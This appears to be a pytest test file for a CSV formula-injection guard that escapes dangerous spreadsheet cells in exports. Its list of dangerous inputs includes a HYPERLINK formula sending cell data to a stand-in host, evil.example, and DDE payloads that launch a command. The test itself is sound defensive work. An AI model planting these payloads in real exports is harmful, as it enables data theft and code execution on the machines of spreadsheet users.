"""CSV formula-injection guard (tenants/csv_safe.py), for every export."""
from __future__ import annotations

import csv
import io

import pytest

from tenants.csv_safe import safe_cell, to_csv, writer

DANGEROUS = ['=1+1', '=HYPERLINK("https://evil.example?"&A1,"click")', "+44 7700 900123", "-2+3", "@SUM(A1:A9)",
             "\t=1+1", "\r=1+1", "\uff1dcmd|' /C calc'!A0", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_a_spreadsheet_would_run_is_prefixed_with_an_apostrophe(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["What about speeding on Hill Road?", "", "a=b", "email me: x@y.org", 42, -5,
                                   3.5, None, True])
def test_everything_else_is_unchanged(value):
    assert safe_cell(value) == value


def test_a_whole_export_round_trips_as_text():
    text = to_csv(["question", "votes"], [["=1+1", 3], ["Plain question", -1], ["@bad", 0]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["question", "votes"], ["'=1+1", "3"], ["Plain question", "-1"], ["'@bad", "0"]]


def test_the_writer_guards_every_row():
    buffer = io.StringIO()
    out = writer(buffer)
    out.writerows([["-1+1", "ok"], ["+x", "=y"]])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'-1+1", "ok"], ["'+x", "'=y"]]
